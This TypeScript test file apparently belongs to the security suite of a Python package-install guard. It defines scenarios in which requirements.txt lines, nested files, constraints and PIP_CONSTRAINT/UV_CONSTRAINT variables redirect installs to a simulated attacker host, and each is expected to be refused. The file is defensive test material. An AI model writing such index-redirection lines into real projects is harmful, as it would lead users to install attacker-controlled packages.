// SPDX-License-Identifier: Apache-2.0
import { EVIL as EVIL_HOST } from '../world/world.ts';
import { send } from '../world/host.ts';
import { BOTH_INSTALL, refused, type Attack, type Form, type Scene } from './attack.ts';
import { evilFile, installWords, openEvilIndex, writeEvilIndex } from './evil-index.ts';
import { EVIL, type Stage } from './stage.ts';

const STRICTLY = ['--strict', '--jail', 'off'];

/** A line in a file moves the index to the attacker's, where everything is judged all the same. */
function moves(name: string, write: (stage: Stage, index: string) => Promise<unknown>): Form {
  return {
    name,
    mount: (stage) => write(stage, openEvilIndex(stage)),
    words: (stage) => installWords(stage, '-r', 'requirements.txt'),
    own: STRICTLY,
    expect: refused('E-MISSING', 'WP-FIRST-USE', { says: () => [EVIL.filename, EVIL_HOST] }),
    plain: BOTH_INSTALL,
    defence: 'settings',
    lasting: true,
  };
}

/** A line that names what no gate sees: told with file and line. */
function bypasses(
  name: string,
  { says, ...rest }: Pick<Scene, 'mount'> & Partial<Form> & { readonly says: readonly string[] },
): Form {
  return {
    name,
    words: (stage) => installWords(stage, '-r', 'requirements.txt'),
    expect: refused('E-BYPASS', 'WP-BYPASS-CONFIG', { says: () => says }),
    plain: BOTH_INSTALL,
    defence: 'settings',
    lasting: true,
    ...rest,
  };
}

const REMOTE_LIST = '/requirements.txt';

/** A file of the attacker's on the attacker's server. */
function openEvilList(stage: Stage, text: string): string {
  const { world } = stage;
  openEvilIndex(stage);
  world.host(EVIL_HOST).hooks.set(REMOTE_LIST, (request, response) => {
    send(request, response, 200, { 'content-type': 'text/plain' }, text);
  });
  return `${world.origin(EVIL_HOST)}${REMOTE_LIST}`;
}

const EVIL_PIN = `good @ `;

export const K02: Attack = {
  id: 'K02',
  title: 'requirement files move the index',
  forms: [
    moves('--index-url', (stage, index) =>
      stage.write('requirements.txt', `--index-url ${index}\ngood\n`),
    ),
    moves('--extra-index-url in a nested file', async (stage, index) => {
      stage.world.project('good').files = [];
      await stage.write('inner.txt', `--extra-index-url=${index}\ngood\n`);
      await stage.write('requirements.txt', `-i ${stage.world.index}\n-r inner.txt\n`);
    }),
    bypasses('an index on this machine', {
      mount: async (stage) =>
        stage.write('requirements.txt', `good\n-i ${await writeEvilIndex(stage)}\n`),
      says: ['requirements.txt:2'],
    }),
    bypasses('a nested file on another machine', {
      mount: async (stage) => {
        const list = openEvilList(stage, `${EVIL_PIN}${evilFile(stage)}\n`);
        await stage.write('requirements.txt', `\n-r ${list}\n`);
      },
      says: ['requirements.txt:2', EVIL_HOST],
    }),
    bypasses('constraints on another machine', {
      mount: async (stage) => {
        const list = openEvilList(stage, `${EVIL_PIN}${evilFile(stage)}\n`);
        await stage.write('requirements.txt', `-i ${stage.world.index}\n-c ${list}\ngood\n`);
      },
      says: ['requirements.txt:2', EVIL_HOST],
    }),
    bypasses('a file on another machine, on the command line', {
      mount: (stage) => void openEvilList(stage, `${EVIL_PIN}${evilFile(stage)}\n`),
      words: (stage) => installWords(stage, '-r', `${stage.world.origin(EVIL_HOST)}${REMOTE_LIST}`),
      says: ['command line', EVIL_HOST],
    }),
    bypasses('constraints on another machine, by a variable', {
      mount: (stage) => void openEvilList(stage, `${EVIL_PIN}${evilFile(stage)}\n`),
      words: (stage) => stage.install(['good']),
      variables: ({ world }) => ({
        PIP_CONSTRAINT: `${world.origin(EVIL_HOST)}${REMOTE_LIST}`,
        UV_CONSTRAINT: `${world.origin(EVIL_HOST)}${REMOTE_LIST}`,
      }),
      says: ['_CONSTRAINT', EVIL_HOST],
    }),
  ],
  twins: [
    {
      name: 'nested files and constraints of this machine',
      mount: async (stage) => {
        await stage.write('inner.txt', 'good\n');
        await stage.write('constraints.txt', 'good<2\n');
        await stage.write(
          'requirements.txt',
          `--index-url ${stage.world.index}\n-r inner.txt\n-c constraints.txt\n`,
        );
      },
      words: (stage) => installWords(stage, '-r', 'requirements.txt'),
    },
  ],
};
